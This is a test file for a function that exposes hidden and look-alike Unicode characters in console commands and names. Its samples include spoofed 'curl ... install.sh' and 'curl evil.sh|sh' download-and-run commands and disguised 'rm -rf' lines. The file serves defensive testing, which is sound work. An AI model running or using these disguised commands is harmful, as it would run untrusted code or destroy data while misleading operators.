import stringWidth from 'string-width';
import { expect, test } from 'vitest';
import { printable } from '../../../src/components/text/printable.ts';
import { decode, material } from './decode.ts';

const command = (text: string) => printable(text, { as: 'command' });

test.each([
  ['curl https://\u0430pple.com/install.sh', 'curl https://<U+0430>pple.com/install.sh'],
  ['rm -rf \u202e/emoh/ \u202c#safe\u200b', 'rm -rf <U+202E>/emoh/ <U+202C>#safe<U+200B>'],
  ['echo literal <U+202E> and real \u202e', 'echo literal <U+003C>U+202E> and real <U+202E>'],
  ['curl evil.sh|sh\r\u001b[2K  ls -la', 'curl evil.sh|sh<U+000D><U+001B>[2K  ls -la'],
  ['\uff4c\uff53 \uff0d\uff4c\uff41', '<U+FF4C><U+FF53> <U+FF0D><U+FF4C><U+FF41>'],
  ['rm \u2013rf /', 'rm <U+2013>rf /'],
  ['touch Übung.txt      vim 日本語.txt', 'touch Übung.txt      vim 日本語.txt'],
])('the sample %j of the console rules is shown as %j', (text, shown) => {
  expect(command(text)).toBe(shown);
});

test.each([
  ['spaces from eight on are counted', `a${' '.repeat(212)}b`, 'a<U+0020 x212>b'],
  ['seven spaces stay', `a${' '.repeat(7)}b`, `a${' '.repeat(7)}b`],
  ['three empty lines are counted', 'a\n\n\nb', 'a<U+000A x3>b'],
  ['two stay two tokens', 'a\n\nb', 'a<U+000A><U+000A>b'],
  ['a fake counted token is taken apart', '<U+0020 x212>', '<U+003C>U+0020 x212>'],
  ['only the last of several < opens a fake token', '<<<U+41>', '<<<U+003C>U+41>'],
  ['a third mark is a token', 'e\u0301\u0302\u0303', 'e\u0301\u0302<U+0303>'],
  ['a mark without a letter is a token', '\u0301a', '<U+0301>a'],
  ['a mark after a token does not touch the token', '\u200b\u0301', '<U+200B><U+0301>'],
  ['joined emoji are shown by their parts', '\u{1f468}\u200d\u{1f469}', '\u{1f468}<U+200D>\u{1f469}'],
  ['flags are shown by their halves', '\u{1f1e9}\u{1f1ea}', '<U+1F1E9><U+1F1EA>'],
  ['a skin tone is a token', '\u{1f44d}\u{1f3fd}', '\u{1f44d}<U+1F3FD>'],
  ['half a surrogate pair is a token', 'a\ud83d', 'a<U+D83D>'],
  ['tags are tokens', 'x\u{e0041}', 'x<U+E0041>'],
  ['a Hangul filler is a token', '\u3164', '<U+3164>'],
  ['a blank Braille pattern is a token', '\u2800', '<U+2800>'],
  ['a no-break space is a token', 'a\u00a0b', 'a<U+00A0>b'],
  ['mathematical letters are tokens', '\u{1d4d0}', '<U+1D4D0>'],
])('%s', (_, text, shown) => {
  expect(printable(text)).toBe(shown);
});

test('a whole Cyrillic word stays readable in a name and not in a command, unless the operator reads it', () => {
  expect(printable('Анна')).toBe('Анна');
  expect(command('Анна')).toBe('<U+0410><U+043D><U+043D><U+0430>');
  expect(printable('Анна', { as: 'command', trustedScripts: ['Cyrillic'] })).toBe('Анна');
  expect(printable('Аnna', { as: 'command', trustedScripts: ['Cyrillic'] })).toBe('<U+0410>nna');
});

test.each(['Übung', '日本語テキスト', 'สวัสดี', 'Tシャツ', 'שלום', 'Zoë Żółw', '한국어'])(
  'the name %s stays readable',
  (name) => {
    expect(printable(name)).toBe(name);
  },
);

test('right-to-left letters are tokens in a command', () => {
  expect(command('a \u05d0')).toBe('a <U+05D0>');
});

const forbidden = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Cn}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]|(?! )\p{Zs}/u;
const segmenter = new Intl.Segmenter(undefined, { granularity: 'grapheme' });

test('THREATS 92 (GHSA-pcqg-f7rg-xfvv, GHSA-9r3v-37xh-2cf6) and 156: of 200,000 hostile texts each round-trips exactly and none shows a hidden character', {
  timeout: 240_000,
}, () => {
  const next = material(20_261_121);
  const seen = new Map<string, string>();
  for (let run = 0; run < 200_000; run++) {
    const text = next();
    const shown = run % 2 === 0 ? printable(text) : command(text);
    // Assertions of the test library are slow; the comparison is made first.
    if (decode(shown) !== text) expect(decode(shown)).toBe(text);
    if (forbidden.test(shown)) expect(shown).not.toMatch(forbidden);
    const key = `${run % 2}${shown}`;
    const earlier = seen.get(key);
    if (earlier !== undefined && earlier !== text) expect(earlier).toBe(text);
    seen.set(key, text);
    if (run % 20 === 0) {
      for (const { segment } of segmenter.segment(shown)) {
        if (stringWidth(segment) > 2 || stringWidth(segment) < 1)
          expect(stringWidth(segment), JSON.stringify(segment)).toBe(1);
      }
    }
  }
});

test('a name of a million characters takes seconds, not minutes', () => {
  const started = performance.now();
  printable('a\u0301\u202e\u{1f468} '.repeat(200_000));
  expect(performance.now() - started).toBeLessThan(15_000);
});
